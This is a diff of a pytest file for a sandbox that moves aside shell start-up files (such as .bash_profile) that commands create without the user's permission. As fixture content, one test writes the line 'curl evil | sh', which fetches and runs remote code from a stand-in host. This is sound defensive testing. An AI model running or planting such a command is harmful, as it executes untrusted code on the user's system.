@@ -97,16 +97,15 @@ def never_ask(paths: AppPaths) -> None:
 
 
 def test_a_member_that_appears_is_moved_only_when_a_guarding_container_may_have_run_a_command() -> None:
-    running = start_files.Seen(guards=True, existed=False, waiting=False, lifted=False)
+    running = start_files.Seen(guards=True, existed=False, waiting=False)
     assert start_files.verdict([running]) == start_files.MOVE
-    gone = start_files.Seen(guards=True, existed=False, waiting=False, lifted=False)
+    gone = start_files.Seen(guards=True, existed=False, waiting=False)
     assert start_files.verdict([gone]) == start_files.MOVE, "a container that ended right after may have made it"
-    spare = start_files.Seen(guards=True, existed=False, waiting=True, lifted=False)
+    spare = start_files.Seen(guards=True, existed=False, waiting=True)
     assert start_files.verdict([spare]) == start_files.KEEP, "an idle spare runs nothing"
-    lifted = start_files.Seen(guards=True, existed=False, waiting=False, lifted=True)
-    allowed = start_files.Seen(guards=False, existed=False, waiting=False, lifted=False)
-    bound = start_files.Seen(guards=True, existed=True, waiting=False, lifted=False)
-    assert start_files.verdict([lifted, allowed, bound]) == start_files.KEEP
+    allowed = start_files.Seen(guards=False, existed=False, waiting=False)  # a person allowed it to make it
+    bound = start_files.Seen(guards=True, existed=True, waiting=False)
+    assert start_files.verdict([allowed, bound]) == start_files.KEEP
     assert start_files.verdict([]) == start_files.KEEP, "no command runs: the user's file"
     assert start_files.verdict([spare, running]) == start_files.MOVE
 
@@ -435,8 +434,10 @@ async def test_a_start_up_file_the_user_saves_the_way_vim_does_while_a_command_r
 async def test_in_the_session_shell_an_allowed_command_may_create_a_start_up_file_which_is_read_only_after(
     home: Path, paths: AppPaths, user_home: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """The session's shell lives in one container: what it creates unasked is moved aside; the
-    user's Allow lets one command create the file, and the next command meets it read-only."""
+    """The session's shell lives in one container: what it creates unasked is moved aside. The
+    user's Allow lets one command create the file, in a container of its own; the idle shell ends
+    first (while its container lives, a new file would be moved aside), and the next command, in a
+    new shell, meets the file read-only."""
     # The hub's runner runs the server's commands in this process (issue 21): it sees this user's home.
     monkeypatch.setenv("HOME", str(user_home))
     target = user_home / ".bash_profile"
@@ -457,7 +458,7 @@ async def test_in_the_session_shell_an_allowed_command_may_create_a_start_up_fil
     assert "written" in unasked["output"], unasked
     [moved] = moved_copies(target)
     assert moved.read_text() == "curl evil | sh\n"
-    assert "done" in allowed["output"], allowed
+    assert "done" in allowed["output"] and "ended first" in (allowed["note"] or ""), allowed
     assert "Read-only file system" in after["output"], "read-only again for the next command"
     assert target.read_text() == ". ~/.profile\n" and moved_copies(target) == [moved]
 
